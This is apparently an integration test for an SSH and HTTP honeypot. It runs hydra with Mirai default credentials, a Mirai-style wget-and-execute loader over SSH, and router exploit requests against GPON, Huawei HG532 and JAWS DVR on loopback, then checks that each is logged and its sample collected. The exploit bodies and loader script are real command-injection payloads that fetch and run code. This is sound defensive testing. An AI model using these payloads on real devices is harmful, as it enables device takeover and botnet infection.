#!/usr/bin/env python3
"""SSH and HTTP honeypots against real clients on loopback (issue 4 "How it is checked").

a. hydra brute-forces the SSH honeypot with Mirai's default credentials; the honeypot accepts one
   pair deep in the list: every attempt is a honeypot.login event, the pair is logged as success.
b. sshpass + OpenSSH's ssh run a Mirai-style loader as an exec request: it downloads a binary from a
   loopback HTTP server the test starts and writes another with echo -ne; both land in the sample
   store under their SHA-256 with their URL / session; the loader never runs on the host.
c. curl sends router exploit requests (GPON, Huawei HG532, JAWS DVR) carrying download URLs: each
   matches its rule and the file its payload names is collected.
d. SSH protocol errors (garbage, a truncated handshake) close only that session and are counted.
"""

import re
import shutil
import socket
import sys
from collections import Counter
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import honeypot_lab as hl  # noqa: E402
import integ_common as ic  # noqa: E402

ACCEPTED = ("root", "Zte521")
ATTEMPT = re.compile(r'^\[ATTEMPT\] target \S+ - login "(.*)" - pass "(.*)" - \d+ of \d+')
SSH_OPTIONS = ["-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
               "-o", "LogLevel=ERROR", "-o", "PreferredAuthentications=password,keyboard-interactive",
               "-o", "ConnectTimeout=10"]


def settings(extra: dict = None) -> dict:
    base = {"honeypot.telnet": {"enabled": False, "port": 0},
            "honeypot.ssh": {"enabled": True, "port": 0},
            "honeypot.http": {"enabled": True, "port": 0},
            "honeypot.limits": {"max_sessions_per_source": 64}}
    return hl.merge(base, extra or {})


def test_hydra(lab: hl.HoneypotLab, work: Path, checks: ic.Checks) -> bool:
    """Returns whether hydra ran (it needs the shared credential list)."""
    credentials = ic.shared_dir() / "data" / "credentials" / "mirai-default-credentials.txt"
    if not credentials.exists():
        print(f"skip  a. hydra: {credentials} is missing (set KANSOKU_SHARED)", flush=True)
        return False
    pairs = [tuple(line.split(":", 1)) for line in credentials.read_text().splitlines() if ":" in line]
    checks.check(ACCEPTED in pairs, f"a. the accepted pair {ACCEPTED[0]}:{ACCEPTED[1]} is in {credentials.name}")
    # On a loaded machine hydra's workers sometimes give up on a connection ("[ERROR] ... could not be
    # connected") and the attempt is lost on its side; such a run is repeated once.
    for _ in range(2):
        before = len(ic.of_type(lab.events(), "honeypot.login"))
        result = ic.run(["hydra", "-V", "-I", "-t", "2", "-w", "30", "-C", str(credentials), "-s",
                         str(lab.ports["ssh"]), "127.0.0.1", "ssh"], timeout=240, cwd=work)
        (work / "hydra-ssh.out").write_text(result.stdout + result.stderr)
        if "[ERROR]" not in result.stdout + result.stderr:
            break
        print("      hydra reported a connection error; running it again", flush=True)
    attempts = [(m.group(1), m.group(2)) for m in map(ATTEMPT.match, result.stdout.splitlines()) if m]
    found = [line for line in result.stdout.splitlines() if "[ssh] host:" in line]
    events = lab.wait_for_events(lambda ev: len(ic.of_type(ev, "honeypot.login")) - before >= len(attempts), 15)
    logins = ic.of_type(events, "honeypot.login")[before:]
    logged = Counter((e["username"], e["password"]) for e in logins)
    tried = Counter(attempts)
    checks.check(result.returncode == 0 and len(found) == 1 and f"password: {ACCEPTED[1]}" in found[0],
                 f"a. hydra finds {ACCEPTED[0]}:{ACCEPTED[1]} over SSH", result.stdout[-1500:] + result.stderr[-800:])
    # hydra stops trying a login once its password is found, and may retry a pair after a dropped
    # connection: what it reports as [ATTEMPT] is the ground truth.
    missing = [pair for pair in tried if logged[pair] == 0]
    checks.check(not missing and sum(logged.values()) >= len(attempts),
                 f"a. every pair hydra tried is a honeypot.login ({sum(logged.values())} events, "
                 f"{len(attempts)} attempts, {len(tried)} distinct pairs)", f"never logged: {missing[:10]}")
    successes = {(e["username"], e["password"]) for e in logins if e.get("success") is True}
    checks.check(successes == {ACCEPTED}, f"a. only the accepted pair is logged with success ({successes})")
    checks.check(all(e.get("method") in ("password", "keyboard-interactive") for e in logins),
                 "a. each SSH login records its method")
    clients = ic.of_type(events, "honeypot.ssh_client")
    checks.check(clients and all(len(c.get("hassh", "")) == 32 for c in clients) and
                 any("libssh" in c.get("client_version", "") for c in clients),
                 f"a. hydra's client version and HASSH recorded ({clients[0].get('client_version') if clients else None})")
    return True


def test_loader(lab: hl.HoneypotLab, work: Path, checks: ic.Checks) -> None:
    marker = work / "loader-ran-on-host"
    binary = b"\x7fELF\x01\x01\x01\x00" + b"#!/bin/sh\ntouch " + str(marker).encode() + b"\n" + bytes(range(256)) * 2
    echoed = b"\x7fELF\x01\x02\x01\x00mips-loader-stage" + bytes(range(0, 64))
    server = hl.SampleServer({"/bins/x.mips": binary})
    try:
        escaped = "".join(f"\\x{b:02x}" for b in echoed)
        half = len(escaped) // 2 // 4 * 4
        script = (f"cd /tmp; /bin/busybox wget http://127.0.0.1:{server.port}/bins/x.mips -O .x; chmod 777 .x; "
                  f"./.x ssh.mips; echo -ne '{escaped[:half]}' > .y; echo -ne '{escaped[half:]}' >> .y; "
                  f"chmod +x .y; ./.y; rm -f .x .y; echo loader-done")
        result = ic.run(["sshpass", "-p", ACCEPTED[1], "ssh", *SSH_OPTIONS, "-p", str(lab.ports["ssh"]),
                         f"{ACCEPTED[0]}@127.0.0.1", script], timeout=60)
        want = {hl.sha256_of(binary), hl.sha256_of(echoed)}
        events = lab.wait_for_events(
            lambda ev: want <= {e.get("sha256") for e in ic.of_type(ev, "honeypot.download")}, 15)
    finally:
        server.stop()
    checks.check("loader-done" in result.stdout, "b. the exec request ran in the emulated shell",
                 result.stdout[-500:] + result.stderr[-500:])
    downloads = {e.get("sha256"): e for e in ic.of_type(events, "honeypot.download") if e.get("protocol") == "ssh"}
    fetched = downloads.get(hl.sha256_of(binary))
    written = downloads.get(hl.sha256_of(echoed))
    checks.check(fetched is not None and fetched.get("url") == f"http://127.0.0.1:{server.port}/bins/x.mips"
                 and fetched.get("tool") == "wget", "b. the wget download is a honeypot.download with its URL")
    checks.check(written is not None and written.get("path") == "/tmp/.y" and written.get("tool") == "shell",
                 "b. the echo -ne file is collected whole, once, with its path")
    sessions = {e.get("session") for e in (fetched or {}, written or {})}
    logins = [e for e in ic.of_type(events, "honeypot.login") if e.get("session") in sessions and e.get("success")]
    checks.check(len(sessions) == 1 and len(logins) == 1, "b. both belong to the loader's SSH session")
    for name, data in (("downloaded", binary), ("echoed", echoed)):
        path = lab.sample_path(hl.sha256_of(data))
        ok = path.exists() and path.read_bytes() == data and (path.stat().st_mode & 0o111) == 0
        checks.check(ok, f"b. the {name} file is in the store under its SHA-256, not executable ({path.name[:16]}...)")
    samples = {e.get("sha256"): e for e in ic.of_type(events, "sample")}
    source = (samples.get(hl.sha256_of(binary)) or {}).get("sources", [{}])[0]
    checks.check(source.get("kind") == "download" and source.get("url", "").endswith("/bins/x.mips") and
                 source.get("session") in sessions, "b. its sample event names the URL and the session")
    checks.check([r[0:2] for r in server.requests] == [("GET", "/bins/x.mips")] and
                 server.requests[0][2].get("User-Agent") == "Wget",
                 f"b. the loopback server saw one GET from the downloader ({[r[0:2] for r in server.requests]})")
    checks.check(not marker.exists(), "b. nothing the loader fetched or wrote ran on the host")


EXPLOITS = [
    # (rule id fragment, method, path, body with {url})
    ("gpon", "POST", "/GponForm/diag_Form?images/",
     "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+{url}+-O+/tmp/gpon80`;"
     "sh+/tmp/gpon80&ipv=0"),
    ("hg532", "POST", "/ctrlt/DeviceUpgrade_1",
     '<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
     's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body>'
     '<u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1">'
     '<NewStatusURL>$(/bin/busybox wget {url} -O /tmp/.f; sh /tmp/.f)</NewStatusURL>'
     '<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>'),
    ("jaws", "GET", "/shell?cd+/tmp;rm+-rf+*;wget+{url};sh+/tmp/jaws", ""),
]


def test_exploits(lab: hl.HoneypotLab, work: Path, checks: ic.Checks) -> None:
    files = {f"/bins/{name}.arm7": f"\x7fELF payload of the {name} exploit\n".encode() for name, *_ in EXPLOITS}
    server = hl.SampleServer(files)
    try:
        for name, method, path, body in EXPLOITS:
            url = f"http://127.0.0.1:{server.port}/bins/{name}.arm7"
            path = path.format(url=url, path=f"/bins/{name}.arm7")
            body = body.format(url=url, path=f"/bins/{name}.arm7")
            args = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-X", method,
                    f"http://127.0.0.1:{lab.ports['http']}{path}"]
            if body:
                args += ["--data-binary", body]
            result = ic.run(args, timeout=30)
            checks.check(result.returncode == 0 and result.stdout.strip().isdigit(),
                         f"c. curl {name}: the honeypot answers (HTTP {result.stdout.strip()})")
        want = {hl.sha256_of(data) for data in files.values()}
        events = lab.wait_for_events(
            lambda ev: want <= {e.get("sha256") for e in ic.of_type(ev, "honeypot.download")}, 15)
    finally:
        server.stop()
    requests = [e for e in ic.of_type(events, "honeypot.http_request") if e.get("path", "").startswith(
        ("/GponForm", "/ctrlt", "/shell"))]
    for (name, *_), request in zip(EXPLOITS, requests):
        checks.check(any(name in rule for rule in request.get("rules", [])),
                     f"c. {name}: honeypot.http_request matches its exploit rule ({request.get('rules')})")
    downloads = {e.get("sha256"): e for e in ic.of_type(events, "honeypot.download") if e.get("protocol") == "http"}
    for path, data in files.items():
        event = downloads.get(hl.sha256_of(data))
        checks.check(event is not None and event.get("url", "").endswith(path) and
                     lab.sample_path(hl.sha256_of(data)).exists(),
                     f"c. the file the payload names ({path}) is collected")


def test_protocol_errors(lab: hl.HoneypotLab, checks: ic.Checks) -> None:
    port = lab.ports["ssh"]
    replies = []
    for payload in (b"GET / HTTP/1.0\r\n\r\n", b"SSH-2.0-x\r\n" + b"\x00\x00\xff\xff" + b"\x14" * 64, b"\xff" * 4096):
        with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
            s.sendall(payload)
            data = b""
            try:
                while True:
                    chunk = s.recv(4096)
                    if not chunk:
                        break
                    data += chunk
            except socket.timeout:
                data += b"<timeout>"
            replies.append(data)
    checks.check(all(r.startswith(b"SSH-2.0-dropbear") and b"<timeout>" not in r for r in replies),
                 "d. garbage, a bad packet length and binary noise each get the banner and a closed connection")
    result = ic.run(["sshpass", "-p", ACCEPTED[1], "ssh", *SSH_OPTIONS, "-p", str(port),
                     f"{ACCEPTED[0]}@127.0.0.1", "echo still-serving"], timeout=30)
    checks.check("still-serving" in result.stdout, "d. the SSH honeypot still serves a real client afterwards")


def main() -> int:
    binary = ic.kansoku_binary()
    ic.exit_on_signals()
    for tool in ("hydra", "ssh", "sshpass", "curl"):
        if shutil.which(tool) is None:
            ic.skip(f"{tool} is not installed (scripts/setup installs it)")
    checks = ic.Checks()
    work = ic.make_temp_dir("kansoku-ssh-http-")
    lab = hl.HoneypotLab(binary, work, settings(), accepted=ACCEPTED)
    try:
        lab.start()
        hydra_ran = test_hydra(lab, work, checks)
        test_loader(lab, work, checks)
        test_exploits(lab, work, checks)
        test_protocol_errors(lab, checks)
        checks.check(lab.alive(), "the honeypot is still running")
    finally:
        status = lab.stop()
    checks.check(status == 0, f"kansoku honeypot exits 0 on SIGINT ({status})", lab.stderr_text[-1500:])
    # hydra makes dozens of sessions; without it the loader and the protocol-error clients make a few.
    ssh_sessions = lab.summary_value(r"ssh [\d.:]+: (\d+) sessions")
    checks.check(ssh_sessions > (20 if hydra_ran else 3),
                 f"the exit summary counts the SSH sessions ({ssh_sessions})", lab.stderr_text[-1500:])
    if checks.failed:
        ic.keep_files(work, work.with_name(work.name + "-kept"), "the honeypot's files")
    else:
        ic.remove_temp_dir(work)
    return checks.exit_code()


if __name__ == "__main__":
    sys.exit(main())
